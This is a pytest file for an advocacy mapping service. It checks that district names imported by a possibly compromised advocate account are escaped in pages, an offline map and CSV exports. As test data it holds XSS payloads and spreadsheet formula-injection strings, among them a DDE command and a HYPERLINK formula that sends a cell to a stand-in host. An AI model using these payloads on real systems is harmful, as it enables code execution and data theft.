"""Outside text is escaped for where it lands: district names in the folium map, pages and CSV cells.

An advocate's account (a seized phone, a coerced advocate) imports districts whose names are
code. Opened by an admin, the advocacy page ran them inside its nonced script (so the CSP let
them), and the offline map, which has no CSP, ran them as HTML too; a spreadsheet opening the
CSV ran them as formulas. Each test reads what it checks as HTML, JSON or CSV, never by
matching strings in the page's source. Real browsers: ``tests/browser/test_security_xss.py``.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import folium
import pytest
from folium.features import GeoJsonDetail
from shapely.geometry import Polygon, box, mapping

from mapsvc import create_app
from mapsvc.core.area import ServiceArea
from mapsvc.core.roles import Role
from mapsvc.services.advocacy import exports
from mapsvc.services.advocacy.evidence import gather, hotspots, parse_question
from mapsvc.services.advocacy.hotspot_map import build
from mapsvc.settings import settings
from mapsvc.store import get_store
from tests.conftest import NOW
from tests.helpers import post_device, sign_in
from tests.test_advocacy_data import upload

#: District names that are code in each place a name lands; each sets a ``window.__pwned*`` flag.
PAYLOADS = (
    '<img src=x onerror="window.__pwned=1">',  # HTML: innerHTML of a tooltip
    "</script><script>window.__pwned2=1</script>",  # the end of the page's script
    "`+(window.__pwned3=1)+`${window.__pwned4=1}",  # a JavaScript template literal
    "\"');window.__pwned5=1;//\u2028x",  # quoted strings, and a line separator
)
MARKER = "__pwned"
QUESTION = {"from": "2026-05", "to": "2026-06", "permutations": "99", "seed": "1", "group": "district"}


#: Where the districts lie: side by side across central Bishkek, inside the service area.
WEST, SOUTH, EAST, NORTH = 74.47, 42.82, 74.70, 42.91


def districts(count: int) -> list[Polygon]:
    """Return ``count`` districts side by side from west to east."""
    width = (EAST - WEST) / count
    return [box(WEST + i * width, SOUTH, WEST + (i + 1) * width, NORTH) for i in range(count)]


def feature_collection(names: list[str] | tuple[str, ...]) -> bytes:
    """Return a GeoJSON file of :func:`districts` named ``names``, west to east."""
    features = [
        {"type": "Feature", "properties": {"name": name}, "geometry": mapping(shape)}
        for name, shape in zip(names, districts(len(names)), strict=True)
    ]
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


def seed_raids(client: Any, point: tuple[float, float]) -> None:
    """Post six raids at ``point`` (lat, lon): enough to be published in the exports."""
    for i in range(6):
        post_device(client, point, "raid", NOW - timedelta(days=3, hours=i), perpetrator="police")


def seed_districts(client: Any, count: int) -> None:
    """Post six raids at the middle of each of ``count`` districts."""
    for shape in districts(count):
        seed_raids(client, (round(shape.centroid.y, 4), round(shape.centroid.x, 4)))


@pytest.fixture
def hostile(client, app):
    """Districts named :data:`PAYLOADS`, imported by an advocate, with published raids in each."""
    seed_districts(client, len(PAYLOADS))
    token = sign_in(client, app, Role.ADVOCATE)
    response = upload(client, token, "/advocacy/data/districts", feature_collection(PAYLOADS), "rayons.geojson")
    assert response.status_code == 200, response.get_data(as_text=True)
    return client


class Page(HTMLParser):
    """The elements of an HTML page, and the text of its scripts and table cells."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.cells: list[str] = []
        self._open: tuple[str, dict[str, str | None]] | None = None
        self._text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in ("script", "td"):
            self._open, self._text = (tag, dict(attrs)), []

    def handle_data(self, data: str) -> None:
        if self._open:
            self._text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if self._open and self._open[0] == tag:
            if tag == "script":
                self.scripts.append((self._open[1], "".join(self._text)))
            else:
                self.cells.append("".join(self._text))
            self._open = None


def geojson_in(script: str) -> list[tuple[int, int, dict[str, Any]]]:
    """Return each GeoJSON document folium hands to a layer in ``script``: its span and its value."""
    decoder, found = json.JSONDecoder(), []
    for call in re.finditer(r"\bgeo_json_[0-9a-f]+_add\(", script):
        value, end = decoder.raw_decode(script, call.end())
        found.append((call.end(), end, value))
    return found


def shown_names(documents: list[tuple[int, int, dict[str, Any]]], field: str) -> set[str]:
    """Return what a tooltip shows of ``field``: the value set as HTML, read back as text."""
    values = [(f.get("properties") or {}).get(field) for _s, _e, doc in documents for f in doc.get("features", [])]
    for value in values:
        assert not isinstance(value, str) or not set(value) & set("<>\"'"), value
    return {html.unescape(v) for v in values if isinstance(v, str)}


def injected(tag: str, attrs: dict[str, str | None]) -> bool:
    """Return whether an element could only have come from a name: an event handler, or an image from elsewhere."""
    handlers = [name for name in attrs if name.startswith("on")]
    return bool(handlers) or (tag == "img" and not (attrs.get("src") or "").startswith(("/", "data:")))


def assert_names_are_only_data(page: Page, nonce_required: bool) -> None:
    """Assert that the payloads made no element and stand, in scripts, only inside GeoJSON strings."""
    assert [(tag, attrs) for tag, attrs in page.tags if injected(tag, attrs)] == []
    inline = [(attrs, text) for attrs, text in page.scripts if "src" not in attrs]
    if nonce_required:
        assert all(attrs.get("nonce") for attrs, _text in inline)
    documents = []
    for _attrs, text in inline:
        spans = geojson_in(text)
        documents += spans
        for marker in re.finditer(MARKER, text):
            inside = any(start <= marker.start() < end for start, end, _v in spans)
            assert inside, text[marker.start() - 80 : marker.end()]
    assert shown_names(documents, "name") == set(PAYLOADS)  # the district outlines
    assert shown_names(documents, "area") == set(PAYLOADS)  # the published counts by district


@pytest.mark.parametrize("path", ["/advocacy/", "/advocacy/report"])
def test_the_advocacy_pages_hold_district_names_only_as_text(hostile, path):
    response = hostile.get(path, query_string=QUESTION)
    page = Page(response.get_data(as_text=True))

    assert response.status_code == 200
    assert_names_are_only_data(page, nonce_required=True)
    assert set(PAYLOADS) <= set(page.cells)  # the table of counts shows each name as it is


def test_the_offline_map_holds_district_names_only_as_text(hostile):
    response = hostile.get("/advocacy/exports/map.html", query_string=QUESTION)
    page = Page(response.get_data(as_text=True))

    assert response.status_code == 200
    assert len(page.scripts) == 3  # Leaflet inlined, folium's settings and the map: nothing a name added
    assert_names_are_only_data(page, nonce_required=False)


def test_the_data_page_lists_district_names_as_text(hostile):
    page = Page(hostile.get("/advocacy/data").get_data(as_text=True))

    assert [(tag, attrs) for tag, attrs in page.tags if injected(tag, attrs)] == []
    assert [attrs for attrs, _text in page.scripts if "src" not in attrs] == []


def _elements(element: Any) -> list[Any]:
    return [element, *(e for child in element._children.values() for e in _elements(child))]


def test_every_map_layer_shows_outside_text_as_text(hostile, app):
    with app.test_request_context():
        s = settings()
        evidence = gather(get_store(), parse_question(QUESTION, s), s, with_events=True)
        elements = _elements(build(evidence, hotspots(evidence), "leaflet.js", "leaflet.css"))

    # folium's text tooltip and popup put their text unescaped into a JavaScript template literal.
    assert [e for e in elements if isinstance(e, folium.Tooltip | folium.Popup)] == []
    details = [e for e in elements if isinstance(e, GeoJsonDetail)]
    shown: set[str] = set()
    for detail in details:
        for field in detail.fields:
            shown |= shown_names([(0, 0, detail._parent.data)], field)
    assert set(PAYLOADS) <= shown


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://example.org/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
)
def test_a_district_name_that_starts_a_formula_is_text_in_the_areas_csv(client, app, name):
    seed_districts(client, 1)
    token = sign_in(client, app, Role.ADVOCATE)
    upload(client, token, "/advocacy/data/districts", feature_collection([name]), "rayons.geojson")

    response = client.get("/advocacy/exports/areas.csv", query_string=QUESTION)
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))

    assert [(row["area"], row["events"]) for row in rows] == [("'" + name, "6")]


def test_negative_coordinates_and_counts_stay_numbers_in_the_events_csv(app_config):
    app = create_app({**app_config, "SERVICE_AREA": "nairobi"})
    client = app.test_client()
    centre = ServiceArea.from_config("nairobi").geometry.centroid
    seed_raids(client, (round(centre.y, 4), round(centre.x, 4)))
    sign_in(client, app, Role.ADVOCATE)

    text = client.get("/advocacy/exports/events.csv", query_string=QUESTION).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    app.extensions["mapsvc.store"].dispose()

    assert len(rows) == 6
    assert {float(row["lat"]) for row in rows} == {round(centre.y, 4)} and centre.y < 0
    assert {int(row["corroborations"]) for row in rows} == {1}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lenin", "Lenin"),
        ("a=1", "a=1"),
        (-74.0059, -74.0059),
        (-3, -3),
    ],
)
def test_csv_cells_that_would_start_a_formula_are_text(value, cell):
    assert exports.csv_cell(value) == cell


def test_exact_columns_keep_the_services_own_identifiers():
    text = exports.csv_table(["id", "area", "lon"], [("-9aZ_x", "-9aZ_x", -1.5)], exact={"id"}).decode()

    assert list(csv.reader(io.StringIO(text))) == [["id", "area", "lon"], ["-9aZ_x", "'-9aZ_x", "-1.5"]]
